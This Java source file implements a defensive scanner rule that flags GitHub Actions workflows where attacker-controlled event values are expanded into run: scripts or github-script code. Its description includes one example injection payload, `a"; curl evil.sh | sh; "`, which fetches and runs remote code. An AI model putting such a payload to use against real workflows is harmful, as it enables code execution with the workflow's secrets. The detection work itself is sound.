package dev.veritensor.rules.ci.rule;

import dev.veritensor.api.Rule;
import dev.veritensor.api.RuleContext;
import dev.veritensor.api.RuleInfo;
import dev.veritensor.api.Severity;
import dev.veritensor.rules.ci.expression.ContextPath;
import dev.veritensor.rules.ci.expression.ValueFlow;
import dev.veritensor.rules.ci.github.ActionMetadata;
import dev.veritensor.rules.ci.github.Expression;
import dev.veritensor.rules.ci.github.GitHubActionsFile;
import dev.veritensor.rules.ci.github.Job;
import dev.veritensor.rules.ci.github.NamedValue;
import dev.veritensor.rules.ci.github.Step;
import dev.veritensor.rules.ci.github.Value;
import dev.veritensor.rules.ci.github.Workflow;

import java.util.ArrayList;
import java.util.HashMap;
import java.util.List;
import java.util.Locale;
import java.util.Map;
import java.util.Optional;

/**
 * {@code gha/template-injection}: an attacker-controllable value (an issue or pull request title,
 * a branch name, a commit message …) expanded by {@code ${{ }}} into code: a {@code run:} script
 * or the {@code script:} of {@code actions/github-script}. GitHub substitutes the text before the
 * shell or JavaScript runs, so quotes in the value end the string and the rest runs as code. The
 * rule follows values through {@code format()}, {@code join()}, {@code toJSON()} and
 * {@code fromJSON()}, through {@code ||}, and through {@code env.NAME} when an {@code env:} in
 * scope sets NAME from such a value; comparisons and predicates yield booleans and are not
 * reported.
 */
public final class TemplateInjectionRule implements Rule<GitHubActionsFile> {

    private static final RuleInfo INFO = RuleInfo.builder("gha/template-injection")
            .title("Untrusted input expanded into a script")
            .severity(Severity.HIGH)
            .description("`${{ }}` expressions are substituted into `run:` scripts and `actions/github-script` "
                    + "code before they run. When the expression yields text an outsider controls (issue and "
                    + "pull request titles and bodies, comments, branch names, commit messages, author names), "
                    + "a crafted value such as `a\"; curl evil.sh | sh; \"` becomes code running with the "
                    + "workflow's token and secrets.")
            .remediation("Pass the value through an environment variable and quote it in the script: "
                    + "`env: TITLE: ${{ github.event.issue.title }}` and `run: echo \"$TITLE\"`. In "
                    + "`actions/github-script`, read it from `context.payload` instead of interpolating it.")
            .tags("injection", "github-actions", "CWE-78", "CWE-94")
            .build();

    @Override
    public RuleInfo info() {
        return INFO;
    }

    @Override
    public Class<GitHubActionsFile> documentType() {
        return GitHubActionsFile.class;
    }

    @Override
    public void check(GitHubActionsFile file, RuleContext context) {
        FindingSink sink = new FindingSink(context);
        if (file instanceof Workflow w) {
            for (Job job : w.jobs()) {
                List<NamedValue> scope = new ArrayList<>(w.env());
                scope.addAll(job.env());
                job.steps().forEach(s -> step(s, scope, sink));
            }
        } else if (file instanceof ActionMetadata a) {
            a.steps().forEach(s -> step(s, List.of(), sink));
        }
    }

    private static void step(Step step, List<NamedValue> outer, FindingSink sink) {
        List<NamedValue> scope = new ArrayList<>(outer);
        scope.addAll(step.env());
        Map<String, ContextPath> taintedEnv = taintedEnvironment(scope);
        step.run().ifPresent(r -> sinkValue(r.value(), "the `run:` script", taintedEnv, sink));
        if (step.uses("actions/github-script")) {
            step.input("script").ifPresent(s -> sinkValue(s.value(), "the `actions/github-script` code",
                    taintedEnv, sink));
        }
    }

    private static void sinkValue(Value value, String where, Map<String, ContextPath> taintedEnv, FindingSink sink) {
        for (Expression e : value.expressions()) {
            Optional<String> via = untrusted(e, taintedEnv);
            via.ifPresent(v -> sink.report(e.location(), "`" + v + "` can be chosen by outsiders (it comes from an "
                    + "issue, pull request, comment, commit or branch name), and `${{ " + e.source().strip()
                    + " }}` expands it into " + where + ": pass it through `env:` and quote the variable"));
        }
    }

    private static Optional<String> untrusted(Expression e, Map<String, ContextPath> taintedEnv) {
        Optional<ContextPath> direct = UntrustedContexts.yieldedBy(e);
        if (direct.isPresent()) {
            return Optional.of(direct.get().toString());
        }
        for (ValueFlow.Source s : e.valueSources()) {
            List<String> seg = s.path().segments();
            if (seg.size() >= 2 && seg.get(0).equals("env")) {
                ContextPath origin = taintedEnv.get(seg.get(1));
                if (origin != null) {
                    return Optional.of(s.path() + "` (set from `" + origin);
                }
            }
        }
        return Optional.empty();
    }

    /** Environment variables in scope whose value is taken from an untrusted context, by lower-case name. */
    private static Map<String, ContextPath> taintedEnvironment(List<NamedValue> scope) {
        Map<String, ContextPath> out = new HashMap<>();
        for (NamedValue v : scope) {
            String name = v.name().toLowerCase(Locale.ROOT);
            out.remove(name);
            for (Expression e : v.value().expressions()) {
                UntrustedContexts.yieldedBy(e).ifPresent(p -> out.put(name, p));
            }
        }
        return out;
    }
}
